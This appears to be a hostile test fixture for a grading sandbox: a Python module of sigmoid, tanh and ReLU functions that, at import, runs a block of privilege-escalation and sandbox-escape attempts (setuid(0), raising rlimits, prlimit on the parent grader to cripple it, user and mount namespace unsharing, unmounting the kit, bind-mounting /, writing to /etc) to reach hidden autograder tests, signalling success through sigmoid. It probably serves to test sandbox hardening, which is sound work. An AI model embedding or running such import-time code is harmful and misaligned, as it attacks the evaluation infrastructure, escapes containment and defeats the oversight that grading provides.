"""At import, uses ctypes to try to regain privileges and unhide the kit: setuid(0), setresuid,
raising rlimits, lowering the grader's limits with prlimit, a user namespace with a new mount
namespace, umount2 and a bind mount of /; raises from sigmoid if any of it lets it read the
hidden tests. Otherwise the instructor's module.
"""

import ctypes
import os
import resource

import numpy as np


def _honest_sigmoid(z):
    """The logistic sigmoid, sigma(z) = 1 / (1 + exp(-z)), elementwise.

    Inputs:
    - z: array of any shape, or a number

    Returns:
    - s: float64 array shaped like z, values in [0, 1]; no overflow warning and no nan,
      even for z as large as +-1e4
    """
    z = np.asarray(z, dtype=np.float64)
    e = np.exp(-np.abs(z))  # in (0, 1]: never overflows
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_grad(z):
    """The derivative of the sigmoid, d sigma / dz = sigma(z) * (1 - sigma(z)), elementwise.

    Inputs:
    - z: array of any shape, or a number (the input of the sigmoid, not its output)

    Returns:
    - ds: float64 array shaped like z
    """
    s = sigmoid(z)
    return s * (1.0 - s)


def tanh(z):
    """The hyperbolic tangent, (e^z - e^-z) / (e^z + e^-z), elementwise.

    Inputs:
    - z: array of any shape, or a number

    Returns:
    - t: float64 array shaped like z, values in [-1, 1]
    """
    return np.tanh(np.asarray(z, dtype=np.float64))


def tanh_grad(z):
    """The derivative of tanh, 1 - tanh(z)^2, elementwise.

    Inputs:
    - z: array of any shape, or a number (the input of tanh, not its output)

    Returns:
    - dt: float64 array shaped like z
    """
    t = tanh(z)
    return 1.0 - t * t


def relu(z):
    """The rectified linear unit, max(0, z), elementwise.

    Inputs:
    - z: array of any shape, or a number

    Returns:
    - r: float64 array shaped like z
    """
    return np.maximum(0.0, np.asarray(z, dtype=np.float64))


def relu_grad(z):
    """The derivative of ReLU: 1.0 where z > 0, else 0.0 (we take 0 at z = 0).

    Inputs:
    - z: array of any shape, or a number

    Returns:
    - dr: float64 array shaped like z, holding only 0.0 and 1.0
    """
    return (np.asarray(z, dtype=np.float64) > 0).astype(np.float64)


# -- the attack ----------------------------------------------------------------------

MARKER = "nnkit-hostile-ctypes_escalate"
CLONE_NEWUSER, CLONE_NEWNS, MS_BIND, MNT_DETACH = 0x10000000, 0x00020000, 4096, 2
HIDDEN = "/work/main/autograder"
libc = ctypes.CDLL(None, use_errno=True)
RESULTS = {}


def _readable():
    try:
        return bool(os.listdir(HIDDEN))
    except OSError:
        return False


def _write(path, text):
    try:
        with open(path, "w") as fh:
            fh.write(text)
    except OSError:
        pass


def _root_only():
    try:
        return bool(os.listdir("/root"))
    except OSError:
        return False


def _try(name, call):
    try:
        RESULTS[name] = call()
    except Exception as exc:
        RESULTS[name] = type(exc).__name__
    if (_readable() and not BEFORE[0]) or (_root_only() and not BEFORE[1]):
        RESULTS[name] = f"ESCALATED after {name}"
    if os.path.exists(f"/etc/{MARKER}.marker"):
        RESULTS[name] = f"ESCALATED after {name}"


BEFORE = (_readable(), _root_only())
PARENT = os.getppid()
uid, gid = os.getuid(), os.getgid()
_try("setuid(0)", lambda: libc.setuid(0))
_try("setresuid(0,0,0)", lambda: libc.setresuid(0, 0, 0))
_try("setgid(0)", lambda: libc.setgid(0))
_try("rlimit AS", lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)))
_try("rlimit NPROC", lambda: resource.setrlimit(resource.RLIMIT_NPROC, (-1, -1)))
for _name, _limit, _value in (
    ("CPU", resource.RLIMIT_CPU, 1),
    ("files", resource.RLIMIT_NOFILE, 3),
    ("memory", resource.RLIMIT_AS, 2**20),
):
    _try(f"prlimit grader {_name}", lambda r=_limit, v=_value: resource.prlimit(PARENT, r, (v, v)))
_try("no_new_privs off", lambda: libc.prctl(38, 0, 0, 0, 0))
_try("unshare user", lambda: libc.unshare(CLONE_NEWUSER))
_write("/proc/self/setgroups", "deny")
_write("/proc/self/uid_map", f"0 {uid} 1")
_write("/proc/self/gid_map", f"0 {gid} 1")
_try("unshare mount", lambda: libc.unshare(CLONE_NEWNS))
_try("umount kit", lambda: libc.umount2(b"/work/main", MNT_DETACH))
_try("umount tmp", lambda: libc.umount2(b"/tmp", MNT_DETACH))
_try("bind /", lambda: libc.mount(b"/", b".", None, MS_BIND, None))
_try("write /etc", lambda: _write(f"/etc/{MARKER}.marker", "x"))
print("escalation attempts:", RESULTS)
ESCALATED = [k for k, v in RESULTS.items() if str(v).startswith("ESCALATED")]


def sigmoid(z):
    if ESCALATED:
        raise RuntimeError(f"LOOT-FOUND escalated by {ESCALATED}")
    return _honest_sigmoid(z)
